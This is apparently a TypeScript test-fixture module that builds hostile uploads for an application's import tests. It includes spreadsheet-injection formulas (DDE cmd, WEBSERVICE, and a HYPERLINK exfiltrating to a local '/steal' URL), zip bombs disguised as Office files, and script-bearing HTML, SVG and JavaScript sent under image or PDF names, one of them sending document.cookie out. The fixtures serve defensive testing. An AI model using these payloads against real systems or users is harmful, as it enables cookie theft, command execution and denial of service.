/** Hostile files built from scratch for the upload and import suites; nothing binary is checked in. */
import { makeOoxml, makeZip } from '../lib/files/test-fixtures.js';

const xlsxTypes =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
  '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>';
const rootRels =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>';
const workbook =
  '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ' +
  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>';
const workbookRels =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>';

/** Formulas that reach out (DDE, web calls, links) in the first row, as a spreadsheet-injection attempt would. */
const formulaRow =
  '<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://127.0.0.1/steal?"&amp;B1,"点击查看")</f><v>点击查看</v></c>' +
  '<c r="B1" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c><c r="C1" t="str"><f>WEBSERVICE("http://127.0.0.1/")</f><v></v></c>' +
  '<c r="D1" t="inlineStr"><is><t>=1+1</t></is></c></row>';

/** A real, openable .xlsx: formulas in its first row, then `emptyRows` rows that hold nothing. */
export function formulaWorkbook({ emptyRows = 1_000_000 }: { emptyRows?: number } = {}): Promise<Buffer> {
  const rows: string[] = [formulaRow];
  for (let r = 2; r <= emptyRows + 1; r++) rows.push(`<row r="${r}"/>`);
  const sheet =
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
    `<dimension ref="A1:D${emptyRows + 1}"/><sheetData>${rows.join('')}</sheetData></worksheet>`;
  return makeZip([
    { name: '[Content_Types].xml', data: xlsxTypes },
    { name: '_rels/.rels', data: rootRels },
    { name: 'xl/workbook.xml', data: workbook },
    { name: 'xl/_rels/workbook.xml.rels', data: workbookRels },
    { name: 'xl/worksheets/sheet1.xml', data: sheet },
  ]);
}

/** Zip bombs that look like Office files by name and by their package parts. */
export const zipBombs = {
  /** 201 MiB of zeros inside a few hundred KiB. */
  hugeXlsx: () => makeOoxml('xl/workbook.xml', [{ name: 'xl/worksheets/sheet1.xml', zeros: 201 << 20 }]),
  /** One entry compressed a thousandfold, under the total size limit. */
  ratioDocx: () => makeOoxml('word/document.xml', [{ name: 'word/media/image1.png', zeros: 20 << 20 }]),
  /** More entries than any real document. */
  manyEntriesDocx: () => makeOoxml('word/document.xml', Array.from({ length: 2100 }, (_, i) => ({ name: `word/media/p${i}.xml`, data: 'x' }))),
  /** A central directory that declares 1,000 bytes for an entry holding 300 MiB of zeros. */
  lyingSmallDocx: () => makeOoxml('word/document.xml', [{ name: 'word/media/image1.png', zeros: 300 << 20, declaredSize: 1_000 }]),
  /** A central directory that lies about an entry's size. */
  lyingXlsx: () => makeOoxml('xl/workbook.xml', [{ name: 'xl/worksheets/sheet1.xml', data: '<x/>', declaredSize: 0xf0000000 }]),
};

/**
 * Active content wearing the name and MIME type of a harmless document or picture. Markup and binaries are refused;
 * script text is plain text by its content, so it may be kept, but only as text/plain.
 */
export const disguised: Array<{ name: string; filename: string; contentType: string; content: string | Buffer; keptAs?: string }> = [
  { name: 'HTML named .pdf', filename: '整改报告.pdf', contentType: 'application/pdf', content: '<!DOCTYPE html><html><body><script>fetch("/api/users")</script></body></html>' },
  { name: 'HTML with a BOM named .pdf', filename: 'report.pdf', contentType: 'application/pdf', content: '\ufeff<html><script>alert(document.cookie)</script></html>' },
  { name: 'SVG with a script named .png', filename: '现场照片.png', contentType: 'image/png', content: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' },
  { name: 'SVG as itself', filename: 'chart.svg', contentType: 'image/svg+xml', content: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' },
  { name: 'JavaScript named .jpg', filename: 'photo.jpg', contentType: 'image/jpeg', content: 'window.location="http://127.0.0.1/"+document.cookie;', keptAs: 'text/plain' },
  { name: 'an XHTML page named .gif', filename: 'x.gif', contentType: 'image/gif', content: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>' },
  { name: 'a Windows executable named .docx', filename: 'a.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]) },
  { name: 'an empty file named .pdf', filename: 'empty.pdf', contentType: 'application/pdf', content: '' },
];
